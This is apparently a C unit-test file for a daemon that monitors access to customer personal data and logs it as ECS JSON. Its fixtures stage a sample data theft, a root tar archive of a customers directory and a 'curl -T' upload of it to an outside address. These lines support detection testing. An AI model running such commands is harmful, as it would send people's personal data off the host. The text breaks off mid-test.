// SPDX-License-Identifier: GPL-2.0
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include <linux/types.h>

#include "ancestors.h"
#include "ecs.h"
#include "piiwatch.h"

#include <linux/fs.h>

/* bpf/piiwatch.h spells the reflink ioctls out for the BPF side. */
_Static_assert(PW_FICLONE == FICLONE, "PW_FICLONE is not FICLONE");
_Static_assert(PW_FICLONERANGE == FICLONERANGE, "PW_FICLONERANGE is not FICLONERANGE");

#define BOOT "cd96f4e1-e314-4c16-ada5-0b1c2f89ad47"
#define CHAIN "5290 /usr/bin/bash\n5104 /usr/sbin/sshd\n1 /usr/lib/systemd/systemd"

static void fill_access(struct pw_access *a)
{
	memset(a, 0, sizeof(*a));
	snprintf(a->boot_id, sizeof(a->boot_id), BOOT);
	a->access_id = 18446744073709551614ULL;
	a->session_id = 42;
	a->audit_session = 17;
	a->loginuid = 1001;
	a->uid = 0;
	a->pid = 5295;
	a->ppid = 5290;
	a->open_flags = 0x8000;
	snprintf(a->comm, sizeof(a->comm), "tar");
	a->user = strdup("田中");
	a->euser = strdup("root");
	a->exe = strdup("/usr/bin/tar");
	a->args = strdup("tar czf /tmp/x.tgz \"/srv/dms/cus tomers\" \\x0a");
	a->ancestors = strdup(CHAIN);
	a->dataset = strdup("customers");
	a->path = strdup("/srv/dms/customers/zz_vip_customers.csv");
	a->dev = (8ULL << 20) | 1;
	a->ino = 1234567;
	a->honeytoken = true;
	a->flags = PW_IO_FINAL | PW_IO_MMAP;
	a->opened_ns = 1795578906000000001ULL;
	a->last_ns = 1795578909552106404ULL;
	a->closed_ns = 1795578909552106404ULL;
	a->bytes_read = 412000000;
	a->bytes_written = 18446744073709551614ULL;
	a->reads = 100;
	a->writes = 1;
	a->service = strdup("sshd");
	a->rhost = strdup("203.0.113.7");
}

static char *line_of(json_object *o)
{
	char *line;

	assert_non_null(o);
	line = pw_ecs_to_line(o);
	assert_non_null(line);
	json_object_put(o);
	return line;
}

static void assert_str_or_null_equal(const char *a, const char *b)
{
	if (!a || !b)
		assert_ptr_equal(a, b);
	else
		assert_string_equal(a, b);
}

static void assert_access_equal(const struct pw_access *x, const struct pw_access *y)
{
	assert_string_equal(x->boot_id, y->boot_id);
	assert_true(x->access_id == y->access_id);
	assert_true(x->session_id == y->session_id);
	assert_int_equal(x->audit_session, y->audit_session);
	assert_int_equal(x->loginuid, y->loginuid);
	assert_int_equal(x->uid, y->uid);
	assert_int_equal(x->pid, y->pid);
	assert_int_equal(x->ppid, y->ppid);
	assert_int_equal(x->open_flags, y->open_flags);
	assert_string_equal(x->comm, y->comm);
	assert_str_or_null_equal(x->user, y->user);
	assert_str_or_null_equal(x->euser, y->euser);
	assert_str_or_null_equal(x->exe, y->exe);
	assert_str_or_null_equal(x->args, y->args);
	assert_str_or_null_equal(x->ancestors, y->ancestors);
	assert_str_or_null_equal(x->dataset, y->dataset);
	assert_str_or_null_equal(x->path, y->path);
	assert_true(x->dev == y->dev);
	assert_true(x->ino == y->ino);
	assert_int_equal(x->honeytoken, y->honeytoken);
	assert_int_equal(x->staging, y->staging);
	assert_int_equal(x->flags, y->flags);
	assert_true(x->opened_ns == y->opened_ns);
	assert_true(x->last_ns == y->last_ns);
	assert_true(x->closed_ns == y->closed_ns);
	assert_true(x->bytes_read == y->bytes_read);
	assert_true(x->bytes_written == y->bytes_written);
	assert_true(x->reads == y->reads);
	assert_true(x->writes == y->writes);
	assert_str_or_null_equal(x->service, y->service);
	assert_str_or_null_equal(x->rhost, y->rhost);
}

static const char *str_at(json_object *root, const char *path)
{
	char buf[128], *save, *tok;
	json_object *cur = root;

	snprintf(buf, sizeof(buf), "%s", path);
	for (tok = strtok_r(buf, ".", &save); tok; tok = strtok_r(NULL, ".", &save))
		if (!json_object_object_get_ex(cur, tok, &cur))
			return NULL;
	return json_object_get_string(cur);
}

static void test_access_roundtrip(void **state)
{
	struct pw_access in, out;
	char err[256] = "";
	char *line;

	fill_access(&in);
	line = line_of(pw_ecs_from_access(&in, "dms01"));
	assert_null(strchr(line, '\n'));
	if (pw_ecs_to_access(line, strlen(line), &out, err, sizeof(err)))
		fail_msg("%s: %s", err, line);
	assert_access_equal(&in, &out);
	pw_access_free_strings(&out);
	free(line);

	/* Still open, no login session, nothing joined, unknown strings. */
	pw_access_free_strings(&in);
	fill_access(&in);
	free(in.user);
	free(in.euser);
	free(in.exe);
	free(in.args);
	free(in.service);
	free(in.rhost);
	free(in.ancestors);
	in.user = in.euser = in.exe = in.args = in.service = in.rhost = in.ancestors = NULL;
	in.comm[0] = '\0';
	in.closed_ns = 0;
	in.audit_session = PW_NO_ID;
	in.loginuid = PW_NO_ID;
	in.session_id = 0;
	in.honeytoken = false;
	in.staging = true;
	in.flags = 0;
	in.opened_ns = 0;
	line = line_of(pw_ecs_from_access(&in, NULL));
	assert_null(strstr(line, "\"end\""));
	assert_null(strstr(line, "ancestors"));
	assert_non_null(strstr(line, "\"parent\":{\"pid\":5290},"));
	assert_non_null(strstr(line, "\"audit_session\":null"));
	if (pw_ecs_to_access(line, strlen(line), &out, err, sizeof(err)))
		fail_msg("%s: %s", err, line);
	assert_access_equal(&in, &out);
	pw_access_free_strings(&out);
	pw_access_free_strings(&in);
	free(line);
}

/* The daemon's direct writer of access lines (ecs_line.c) must give the
 * bytes json-c gives for the same access, whatever the fields hold. */
static uint64_t next_rand(uint64_t *x)
{
	*x ^= *x << 13;
	*x ^= *x >> 7;
	*x ^= *x << 17;
	return *x;
}

static const char *pick_str(uint64_t *x)
{
	static char long_str[6000];
	static const char *const pool[] = {
		NULL,
		"",
		"plain",
		"/srv/dms/customers/customers-0001.csv",
		"with \"quotes\" and \\ backslash / slash",
		"controls \x01\x1f\n\t\r\b\f end",
		"invalid \xff\xfe utf-8 \xc3",
		"C1 \xc2\x85 and DEL \x7f",
		"\xe7\x94\xb0\xe4\xb8\xad \xf0\x9f\x98\x80",
		"::1",
		"192.0.2.10",
		"2001:db8::7",
		"host.example",
		long_str,
	};
	size_t n = sizeof(pool) / sizeof(pool[0]);

	if (!long_str[0]) {
		memset(long_str, 'x', sizeof(long_str) - 1);
		long_str[100] = '"';
		long_str[200] = '\x02';
	}
	return pool[next_rand(x) % n];
}

static char *dup_or_null(const char *s)
{
	return s ? strdup(s) : NULL;
}

static uint64_t pick_u64(uint64_t *x)
{
	switch (next_rand(x) % 5) {
	case 0:
		return 0;
	case 1:
		return 1;
	case 2:
		return UINT64_MAX - 1;
	default:
		return next_rand(x);
	}
}

/* Chains as a record could hold them, well formed or not. */
static const char *pick_chain(uint64_t *x)
{
	static char long_chain[PW_ANCESTORS_TEXT_MAX + 600];
	static const char *const pool[] = {
		NULL,
		"",
		CHAIN,
		"1 /sbin/init",
		"7 with \"quotes\" and \\ backslash / slash\n1 /x",
		"7 controls \x01\x1f\t\r\b\f end",
		"7 invalid \xff\xfe utf-8 \xc3\n8 C1 \xc2\x85 and DEL \x7f",
		"7 \xe7\x94\xb0\xe4\xb8\xad \xf0\x9f\x98\x80",
		"1 a\n2 b\n3 c\n4 d\n5 e\n6 f\n7 g",
		"7 /ok\nnot a line\n8 /gone",
		"007 /leading/zeros",
		"4294967295 /max\n4294967296 /over",
		long_chain,
	};

	if (!long_chain[0]) {
		memset(long_chain, 'x', sizeof(long_chain) - 1);
		memcpy(long_chain, "12 ", 3);
		long_chain[100] = '"';
		long_chain[200] = '\x02';
		long_chain[300] = '\n';
		memcpy(long_chain + 301, "13 ", 3);
	}
	return pool[next_rand(x) % (sizeof(pool) / sizeof(pool[0]))];
}

/* pw_ecs_access_line() gives, byte for byte, the json-c builder's line. */
static void assert_line_matches_json_c(struct pw_ecs_buf *buf, const struct pw_access *a,
				       const char *host)
{
	char *want = line_of(pw_ecs_from_access(a, host));
	size_t len = 0;
	const char *line = pw_ecs_access_line(buf, a, host, &len);

	assert_non_null(line);
	assert_string_equal(line, want);
	assert_int_equal(len, strlen(want));
	free(want);
}

static void test_access_line_matches_json_c(void **state)
{
	struct pw_ecs_buf buf = { 0 };
	uint64_t x = 0x9e3779b97f4a7c15ULL;
	int i;

	(void)state;
	for (i = 0; i < 3000; i++) {
		struct pw_access a;
		const char *host = pick_str(&x), *comm = pick_str(&x);

		memset(&a, 0, sizeof(a));
		snprintf(a.boot_id, sizeof(a.boot_id), "%s", i % 7 ? BOOT : "");
		a.access_id = pick_u64(&x);
		a.session_id = next_rand(&x) % 3 ? (int64_t)(next_rand(&x) % 100000) : 0;
		a.audit_session = next_rand(&x) % 3 ? (uint32_t)next_rand(&x) : PW_NO_ID;
		a.loginuid = next_rand(&x) % 3 ? (uint32_t)next_rand(&x) : PW_NO_ID;
		a.uid = (uint32_t)next_rand(&x);
		a.pid = (uint32_t)next_rand(&x);
		a.ppid = (uint32_t)next_rand(&x);
		a.open_flags = (uint32_t)next_rand(&x);
		snprintf(a.comm, sizeof(a.comm), "%s", comm ? comm : "");
		a.user = dup_or_null(pick_str(&x));
		a.euser = dup_or_null(pick_str(&x));
		a.exe = dup_or_null(pick_str(&x));
		a.args = dup_or_null(pick_str(&x));
		a.dataset = dup_or_null(pick_str(&x));
		a.path = dup_or_null(pick_str(&x));
		a.service = dup_or_null(pick_str(&x));
		a.rhost = dup_or_null(pick_str(&x));
		a.ancestors = dup_or_null(pick_chain(&x));
		a.dev = pick_u64(&x);
		a.ino = pick_u64(&x);
		a.honeytoken = next_rand(&x) & 1;
		a.staging = next_rand(&x) & 1;
		a.flags = (uint32_t)next_rand(&x);
		/* Times up to the year 2500, some opened after their last I/O. */
		a.opened_ns = next_rand(&x) % 16725225600000000000ULL;
		a.last_ns = next_rand(&x) % 4 ? a.opened_ns + next_rand(&x) % 100000000000ULL
					    : next_rand(&x) % 16725225600000000000ULL;
		a.closed_ns = next_rand(&x) % 2 ? a.last_ns : 0;
		a.bytes_read = pick_u64(&x);
		a.bytes_written = next_rand(&x) % 2 ? 0 : pick_u64(&x);
		a.reads = pick_u64(&x);
		a.writes = next_rand(&x) % 2 ? 0 : pick_u64(&x);

		assert_line_matches_json_c(&buf, &a, host);
		pw_access_free_strings(&a);
	}
	pw_ecs_buf_free(&buf);
}

/* The writer passes over clean text eight bytes at a time: every byte
 * value, at every place in and around a word, and in strings of every
 * length up to three words, is written as json-c writes it. */
static void test_access_line_every_byte_everywhere(void **state)
{
	struct pw_ecs_buf buf = { 0 };
	struct pw_access a;
	char path[32];
	size_t n, pos;
	int c;

	(void)state;
	fill_access(&a);
	for (n = 1; n <= 24; n++)
		for (pos = 0; pos < n; pos++)
			for (c = 1; c < 256; c++) {
				memset(path, 'a' + (int)(n % 26), n);
				path[n] = '\0';
				path[pos] = (char)c;
				free(a.path);
				a.path = strdup(path);
				assert_non_null(a.path);
				assert_line_matches_json_c(&buf, &a, "dms01");
			}
	pw_access_free_strings(&a);
	pw_ecs_buf_free(&buf);
}

/* Every PW_IO_* bit has its name, in bit order, in both writers. */
static void test_access_io_names(void **state)
{
	struct pw_ecs_buf buf = { 0 };
	struct pw_access a;
	json_object *o;

	(void)state;
	fill_access(&a);
	a.flags = PW_IO_URING | PW_IO_AIO | PW_IO_CLONE;
	o = pw_ecs_from_access(&a, "dms01");
	assert_non_null(o);
	assert_string_equal(str_at(o, "piiwatch.io_flags"), "448");
	assert_string_equal(str_at(o, "piiwatch.io"), "[ \"io_uring\", \"aio\", \"clone\" ]");
	json_object_put(o);
	a.flags = PW_IO_FINAL | PW_IO_EXIT | PW_IO_REUSED | PW_IO_EXEC | PW_IO_IDLE | PW_IO_MMAP |
		  PW_IO_URING | PW_IO_AIO | PW_IO_CLONE | PW_IO_OVERLAY | PW_IO_RAW;
	o = pw_ecs_from_access(&a, "dms01");
	assert_non_null(o);
	assert_int_equal(json_object_array_length(json_object_object_get(
				 json_object_object_get(o, "piiwatch"), "io")),
			 PW_ECS_N_IO_NAMES);
	json_object_put(o);
	assert_line_matches_json_c(&buf, &a, "dms01");
	pw_access_free_strings(&a);
	pw_ecs_buf_free(&buf);
}

static void test_access_ecs_names(void **state)
{
	struct pw_access a;
	json_object *o, *v;
	char *line;

	fill_access(&a);
	o = pw_ecs_from_access(&a, "dms01");
	assert_non_null(o);
	assert_string_equal(str_at(o, "@timestamp"), "2026-11-25T03:55:09.552106404Z");
	assert_string_equal(str_at(o, "event.start"), "2026-11-25T03:55:06.000000001Z");
	assert_string_equal(str_at(o, "event.end"), "2026-11-25T03:55:09.552106404Z");
	assert_string_equal(str_at(o, "event.duration"), "3552106403");
	assert_string_equal(str_at(o, "ecs.version"), PW_ECS_VERSION);
	assert_string_equal(str_at(o, "event.kind"), "event");
	assert_string_equal(str_at(o, "event.dataset"), "piiwatch.access");
	assert_string_equal(str_at(o, "event.action"), "file-read-write");
	assert_string_equal(str_at(o, "event.outcome"), "success");
	assert_true(json_object_object_get_ex(json_object_object_get(o, "event"), "type", &v));
	assert_int_equal(json_object_array_length(v), 2);
	assert_string_equal(json_object_get_string(json_object_array_get_idx(v, 1)), "change");
	assert_string_equal(str_at(o, "host.name"), "dms01");
	assert_string_equal(str_at(o, "host.boot.id"), BOOT);
	assert_string_equal(str_at(o, "user.name"), "田中");
	assert_string_equal(str_at(o, "user.id"), "1001");
	assert_string_equal(str_at(o, "process.pid"), "5295");
	assert_string_equal(str_at(o, "process.parent.pid"), "5290");
	assert_string_equal(str_at(o, "process.parent.executable"), "/usr/bin/bash");
	assert_string_equal(str_at(o, "process.name"), "tar");
	assert_string_equal(str_at(o, "process.executable"), "/usr/bin/tar");
	assert_string_equal(str_at(o, "process.user.id"), "0");
	assert_string_equal(str_at(o, "process.user.name"), "root");
	assert_string_equal(str_at(o, "file.path"), "/srv/dms/customers/zz_vip_customers.csv");
	assert_string_equal(str_at(o, "file.inode"), "1234567");
	assert_string_equal(str_at(o, "file.device"), "8:1");
	assert_string_equal(str_at(o, "source.address"), "203.0.113.7");
	assert_string_equal(str_at(o, "source.ip"), "203.0.113.7");
	assert_string_equal(str_at(o, "piiwatch.dataset"), "customers");
	assert_string_equal(str_at(o, "piiwatch.honeytoken"), "true");
	assert_string_equal(str_at(o, "piiwatch.staging"), "false");
	assert_string_equal(str_at(o, "piiwatch.io_flags"), "33");
	assert_string_equal(str_at(o, "piiwatch.io"), "[ \"final\", \"mmap\" ]");
	assert_string_equal(str_at(o, "piiwatch.bytes_read"), "412000000");
	assert_string_equal(str_at(o, "piiwatch.bytes_written"), "18446744073709551614");
	assert_string_equal(str_at(o, "piiwatch.audit_session"), "17");
	assert_string_equal(str_at(o, "piiwatch.session_id"), "42");
	assert_string_equal(str_at(o, "piiwatch.pam_service"), "sshd");
	line = line_of(o);
	/* Paths stay readable: no "\/" escaping. */
	assert_non_null(strstr(line, "\"path\":\"/srv/dms/customers/zz_vip_customers.csv\""));
	assert_non_null(
		strstr(line, "\"parent\":{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},"));
	assert_non_null(strstr(line, "\"pam_service\":\"sshd\",\"process\":{\"ancestors\":["
				     "{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},"
				     "{\"pid\":5104,\"executable\":\"/usr/sbin/sshd\"},"
				     "{\"pid\":1,\"executable\":\"/usr/lib/systemd/systemd\"}]}}}"));
	assert_true(strncmp(line, "{\"@timestamp\":", 14) == 0);
	free(line);

	/* A host name is not an IP: source.domain instead of source.ip. */
	free(a.rhost);
	a.rhost = strdup("pc17.dealer.example");
	a.bytes_written = a.writes = 0;
	o = pw_ecs_from_access(&a, NULL);
	assert_null(str_at(o, "source.ip"));
	assert_null(str_at(o, "host.name"));
	assert_string_equal(str_at(o, "source.domain"), "pc17.dealer.example");
	assert_string_equal(str_at(o, "event.action"), "file-read");
	assert_int_equal(json_object_array_length(json_object_object_get(json_object_object_get(o, "event"), "type")), 1);
	json_object_put(o);
	pw_access_free_strings(&a);
}

/* What the collector should never hand over still comes out valid. */
static void test_unclean_strings_escaped(void **state)
{
	struct pw_access a, out;
	char err[256] = "";
	char *line;

	fill_access(&a);
	free(a.path);
	a.path = strdup("/srv/a\nb\x01\xff.csv");
	line = line_of(pw_ecs_from_access(&a, NULL));
	assert_non_null(strstr(line, "\"/srv/a\\\\x0ab\\\\x01\\\\xff.csv\""));
	assert_int_equal(pw_ecs_to_access(line, strlen(line), &out, err, sizeof(err)), 0);
	assert_string_equal(out.path, "/srv/a\\x0ab\\x01\\xff.csv");
	pw_access_free_strings(&out);
	pw_access_free_strings(&a);
	free(line);
}

static void fill_session(struct pw_session_record *r)
{
	memset(r, 0, sizeof(*r));
	r->type = PW_REC_SESSION_OPEN;
	snprintf(r->id, sizeof(r->id), "00001795578909552106-4242-deadbeef");
	snprintf(r->user, sizeof(r->user), "tanaka");
	snprintf(r->service, sizeof(r->service), "sshd");
	snprintf(r->rhost, sizeof(r->rhost), "2001:db8::7");
	snprintf(r->ruser, sizeof(r->ruser), "t.tanaka");
	snprintf(r->tty, sizeof(r->tty), "ssh");
	r->uid = 1001;
	r->pid = 4242;
	r->loginuid = 1001;
	r->sessionid = 17;
	r->altered = PW_ALT_RHOST;
	snprintf(r->boot_id, sizeof(r->boot_id), BOOT);
	r->time_ns = 1795578909552106404ULL;
	r->mono_ns = 2940082425601ULL;
}

static void roundtrip_session(const struct pw_session_record *in)
{
	struct pw_ecs_record rec;
	char err[256] = "";
	char *line = line_of(pw_ecs_from_session(in, "dms01"));
	const struct pw_session_record *out = &rec.session;

	if (pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)))
		fail_msg("%s: %s", err, line);
	assert_int_equal(rec.kind, PW_ECS_SESSION);
	assert_int_equal(out->type, in->type);
	assert_string_equal(out->id, in->id);
	assert_string_equal(out->user, in->user);
	assert_string_equal(out->service, in->service);
	assert_string_equal(out->rhost, in->rhost);
	assert_string_equal(out->ruser, in->ruser);
	assert_string_equal(out->tty, in->tty);
	assert_true(out->uid == in->uid);
	assert_int_equal(out->pid, in->pid);
	assert_int_equal(out->loginuid, in->loginuid);
	assert_int_equal(out->sessionid, in->sessionid);
	assert_int_equal(out->altered, in->altered);
	assert_string_equal(out->boot_id, in->boot_id);
	assert_true(out->time_ns == in->time_ns);
	assert_true(out->mono_ns == in->mono_ns);
	pw_ecs_record_free(&rec);
	free(line);
}

static void test_session_roundtrip(void **state)
{
	struct pw_session_record r;
	json_object *o;

	fill_session(&r);
	o = pw_ecs_from_session(&r, NULL);
	assert_string_equal(str_at(o, "event.category"), "[ \"session\" ]");
	assert_string_equal(str_at(o, "event.action"), "session-open");
	assert_string_equal(str_at(o, "source.ip"), "2001:db8::7");
	assert_string_equal(str_at(o, "source.user.name"), "t.tanaka");
	assert_string_equal(str_at(o, "user.id"), "1001");
	json_object_put(o);
	roundtrip_session(&r);

	r.type = PW_REC_SESSION_CLOSE;
	r.uid = -1;
	r.loginuid = PW_NO_ID;
	r.sessionid = PW_NO_ID;
	r.rhost[0] = r.ruser[0] = r.tty[0] = '\0';
	roundtrip_session(&r);

	r.type = PW_REC_QUARANTINE_QUERY;
	assert_null(pw_ecs_from_session(&r, NULL));
}

static void test_alert_roundtrip(void **state)
{
	struct pw_alert in = { .severity = PW_SEV_HIGH, .audit_session = 17, .session_id = 42,
			       .time_ns = 1795578909552106404ULL, .score = 0.1 };
	struct pw_ecs_record rec;
	char err[256] = "";
	json_object *o;
	char *line;

	snprintf(in.rule_id, sizeof(in.rule_id), "bulk-read");
	snprintf(in.user, sizeof(in.user), "tanaka");
	snprintf(in.reason, sizeof(in.reason),
		 "read 412 MB of customers in 10 min; \"baseline\" is 2 MB");
	o = pw_ecs_from_alert(&in, "dms01");
	assert_string_equal(str_at(o, "event.kind"), "alert");
	assert_string_equal(str_at(o, "rule.id"), "bulk-read");
	assert_string_equal(str_at(o, "event.severity"), "73");
	assert_string_equal(str_at(o, "piiwatch.severity"), "high");
	assert_string_equal(str_at(o, "message"), in.reason);
	line = line_of(o);
	assert_non_null(strstr(line, "\"risk_score\":0.1,"));
	assert_int_equal(pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)), 0);
	assert_int_equal(rec.kind, PW_ECS_ALERT);
	assert_string_equal(rec.alert.rule_id, "bulk-read");
	assert_int_equal(rec.alert.severity, PW_SEV_HIGH);
	assert_string_equal(rec.alert.user, "tanaka");
	assert_int_equal(rec.alert.audit_session, 17);
	assert_true(rec.alert.session_id == 42);
	assert_true(rec.alert.time_ns == in.time_ns);
	assert_true(rec.alert.score == 0.1);
	assert_string_equal(rec.alert.reason, in.reason);
	free(line);

	/* An access parser refuses other records by name. */
	fill_session(&rec.session);
	line = line_of(pw_ecs_from_session(&rec.session, NULL));
	{
		struct pw_access a;

		assert_int_equal(pw_ecs_to_access(line, strlen(line), &a, err, sizeof(err)), -1);
		assert_non_null(strstr(err, "event.dataset"));
	}
	free(line);
}

/* Set (or with value NULL remove) one field of a good record, and expect
 * the parser to refuse the line naming the field. */
static void expect_refused(json_object *root, const char *path, const char *json_value,
			   const char *needle)
{
	struct pw_ecs_record rec;
	json_object *parent = root, *val;
	char buf[128], *dot, *key = buf, *line;
	char err[256] = "";

	snprintf(buf, sizeof(buf), "%s", path);
	while ((dot = strchr(key, '.')) != NULL) {
		*dot = '\0';
		if (!json_object_object_get_ex(parent, key, &val)) {
			val = json_object_new_object();
			json_object_object_add(parent, key, val);
		}
		parent = val;
		key = dot + 1;
	}
	if (json_value) {
		val = json_tokener_parse(json_value);
		if (!val && strcmp(json_value, "null") != 0)
			fail_msg("bad test value %s", json_value);
		json_object_object_add(parent, key, val);
	} else {
		json_object_object_del(parent, key);
	}
	line = line_of(root);
	if (pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)) == 0) {
		pw_ecs_record_free(&rec);
		fail_msg("accepted %s=%s", path, json_value ? json_value : "(removed)");
	}
	if (!strstr(err, needle))
		fail_msg("error '%s' does not mention '%s' for %s=%s", err, needle, path,
			 json_value ? json_value : "(removed)");
	free(line);
}

static void expect_mutation_error(const char *path, const char *json_value, const char *needle)
{
	struct pw_access a;
	json_object *root;

	fill_access(&a);
	root = pw_ecs_from_access(&a, "dms01");
	pw_access_free_strings(&a);
	expect_refused(root, path, json_value, needle);
}

/* Found by fuzz/fuzz_ecs_line: a required string given as "" was taken,
 * but the builders leave empty strings out, so the record could not be
 * written back and read again. */
static void test_empty_required_strings(void **state)
{
	struct pw_session_record r;
	struct pw_event_rec e;

	expect_mutation_error("host.boot.id", "\"\"", "'host.boot.id' must not be empty");
	expect_mutation_error("file.path", "\"\"", "'file.path' must not be empty");
	expect_mutation_error("piiwatch.dataset", "\"\"", "'piiwatch.dataset' must not be empty");
	fill_session(&r);
	expect_refused(pw_ecs_from_session(&r, NULL), "piiwatch.pam_service", "\"\"",
		       "'piiwatch.pam_service' must not be empty");
	fill_session(&r);
	expect_refused(pw_ecs_from_session(&r, NULL), "host.boot.id", "\"\"",
		       "'host.boot.id' must not be empty");
	memset(&e, 0, sizeof(e));
	e.kind = "exec";
	e.ts_ns = 1795578909552106404ULL;
	expect_refused(pw_ecs_from_event(&e, NULL, BOOT), "host.boot.id", "\"\"",
		       "'host.boot.id' must not be empty");
}

static void fill_event(struct pw_event_rec *e, const char *kind)
{
	memset(e, 0, sizeof(*e));
	e->kind = kind;
	e->action = kind;
	e->ts_ns = 1795578909552106404ULL;
	e->session_id = 42;
	e->audit_session = 17;
	e->loginuid = 1001;
	e->uid = 0;
	e->pid = 5301;
	e->ppid = 5290;
	e->user = "田中";
	e->euser = "root";
	e->comm = "curl";
	e->exe = "/usr/bin/curl";
	e->args = "curl -T /tmp/c.tgz https://198.51.100.9/";
	e->ancestors = CHAIN;
}

static void assert_event_equal(const struct pw_event_rec *x, const struct pw_event_rec *y)
{
	assert_string_equal(x->kind, y->kind);
	assert_str_or_null_equal(x->action, y->action);
	assert_true(x->ts_ns == y->ts_ns);
	assert_true(x->session_id == y->session_id);
	assert_int_equal(x->audit_session, y->audit_session);
	assert_int_equal(x->loginuid, y->loginuid);
	assert_int_equal(x->uid, y->uid);
	assert_int_equal(x->pid, y->pid);
	assert_int_equal(x->ppid, y->ppid);
	assert_str_or_null_equal(x->user, y->user);
	assert_str_or_null_equal(x->euser, y->euser);
	assert_str_or_null_equal(x->comm, y->comm);
	assert_str_or_null_equal(x->exe, y->exe);
	assert_str_or_null_equal(x->args, y->args);
	assert_str_or_null_equal(x->ancestors, y->ancestors);
	assert_str_or_null_equal(x->dataset, y->dataset);
	assert_str_or_null_equal(x->path, y->path);
	assert_str_or_null_equal(x->path2, y->path2);
	assert_str_or_null_equal(x->dest_ip, y->dest_ip);
	assert_int_equal(x->dest_port, y->dest_port);
	assert_true(x->result == y->result);
	assert_true(x->access_id == y->access_id);
	assert_true(x->count == y->count);
	assert_int_equal(x->honeytoken, y->honeytoken);
}

static void roundtrip_event(const struct pw_event_rec *in)
{
	struct pw_ecs_record rec;
	char err[256] = "";
	char *line = line_of(pw_ecs_from_event(in, "dms01", BOOT));

	if (pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)))
		fail_msg("%s: %s", err, line);
	assert_int_equal(rec.kind, PW_ECS_EVENT);
	assert_string_equal(rec.boot_id, BOOT);
	assert_event_equal(in, &rec.event);
	pw_ecs_record_free(&rec);
	free(line);
}

/* Every kind of event reads back into the record it was written from. */
static void test_event_roundtrip(void **state)
{
	struct pw_event_rec e;
	json_object *o;

	fill_event(&e, "connect");
	e.dest_ip = "198.51.100.9";
	e.dest_port = 443;
	e.result = -115;
	o = pw_ecs_from_event(&e, NULL, BOOT);
	assert_string_equal(str_at(o, "event.category"), "[ \"network\" ]");
	assert_string_equal(str_at(o, "event.outcome"), "unknown");
	assert_string_equal(str_at(o, "piiwatch.kind"), "connect");
	assert_string_equal(str_at(o, "process.parent.executable"), "/usr/bin/bash");
	assert_string_equal(json_object_to_json_string_ext(
				    json_object_object_get(json_object_object_get(
					    json_object_object_get(o, "piiwatch"), "process"), "ancestors"),
				    JSON_C_TO_STRING_PLAIN | JSON_C_TO_STRING_NOSLASHESCAPE),
			    "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},"
			    "{\"pid\":5104,\"executable\":\"/usr/sbin/sshd\"},"
			    "{\"pid\":1,\"executable\":\"/usr/lib/systemd/systemd\"}]");
	json_object_put(o);
	roundtrip_event(&e);
	e.dest_ip = "2001:db8::9";
	roundtrip_event(&e);

	fill_event(&e, "change");
	e.action = "rename";
	e.dataset = "customers";
	e.path = "/srv/dms/customers/zz_vip.csv";
	e.path2 = "zz_vip.csv -> /tmp/x";
	e.honeytoken = true;
	roundtrip_event(&e);

	fill_event(&e, "exec");
	e.loginuid = PW_NO_ID;
	e.audit_session = PW_NO_ID;
	e.session_id = 0;
	e.user = NULL;
	e.euser = NULL;
	roundtrip_event(&e);

	fill_event(&e, "mmap");
	e.access_id = 18446744073709551614ULL;
	e.count = 1 << 20;
	e.dataset = "customers";
	roundtrip_event(&e);

	fill_event(&e, "io_uring");
	e.action = "submit";
	e.result = 18;
	roundtrip_event(&e);

	fill_event(&e, "coredump");
	e.action = "dump";
	e.result = 11;
	o = pw_ecs_from_event(&e, NULL, BOOT);
	assert_string_equal(str_at(o, "event.category"), "[ \"process\" ]");
	assert_string_equal(str_at(o, "event.type"), "[ \"end\" ]");
	json_object_put(o);
	roundtrip_event(&e);

	fill_event(&e, "loss");
	e.action = "ring-full";
	e.count = 1234;
	e.exe = e.args = e.user = e.euser = e.ancestors = NULL;
	e.comm = "piiwatchd";
	o = pw_ecs_from_event(&e, NULL, BOOT);
	assert_string_equal(str_at(o, "event.category"), "[ \"host\" ]");
	assert_string_equal(str_at(o, "piiwatch.count"), "1234");
	json_object_put(o);
	roundtrip_event(&e);
}

/* A session record carries its row in the store when the daemon knows it. */
static void test_session_row(void **state)
{
	struct pw_session_record r;
	struct pw_ecs_record rec;
	char err[256], *line;

	fill_session(&r);
	line = line_of(pw_ecs_from_session_row(&r, 42, NULL));
	assert_int_equal(pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)), 0);
	assert_true(rec.session_id == 42);
	free(line);
	line = line_of(pw_ecs_from_session(&r, NULL));
	assert_int_equal(pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)), 0);
	assert_true(rec.session_id == 0);
	assert_null(strstr(line, "session_id"));
	free(line);
}

/* As expect_mutation_error() for an event line. */
static void expect_event_error(const char *path, const char *json_value, const char *needle)
{
	struct pw_event_rec e;

	fill_event(&e, "connect");
	e.dest_ip = "198.51.100.9";
	e.dest_port = 443;
	expect_refused(pw_ecs_from_event(&e, "dms01", BOOT), path, json_value, needle);
}

static void test_hostile_event_fields(void **state)
{
	expect_event_error("piiwatch.kind", "\"weather\"", "'piiwatch.kind' must be change");
	expect_event_error("piiwatch.kind", NULL, "'piiwatch.kind' is missing");
	expect_event_error("event.kind", "\"alert\"", "'event.kind' must be \"event\"");
	expect_event_error("event.action", "\"Rename Now\"", "'event.action' must be");
	expect_event_error("host.boot.id", NULL, "'host.boot.id' is missing");
	expect_event_error("@timestamp", "\"yesterday\"", "'@timestamp' must be a UTC time");
	expect_event_error("destination.ip", "\"198.51.100.300\"", "'destination.ip' must be");
	expect_event_error("destination.ip", "\"evil.example\"", "'destination.ip' must be");
	expect_event_error("destination.port", "70000", "'destination.port' is out of range");
	expect_event_error("piiwatch.result", "\"-1\"", "'piiwatch.result' must be an integer");
	expect_event_error("piiwatch.result", NULL, "'piiwatch.result' is missing");
	expect_event_error("piiwatch.result", "9223372036854775808", "'piiwatch.result' is out");
	expect_event_error("piiwatch.count", "-5", "'piiwatch.count' is out of range");
	expect_event_error("piiwatch.honeytoken", "1", "'piiwatch.honeytoken' must be a boolean");
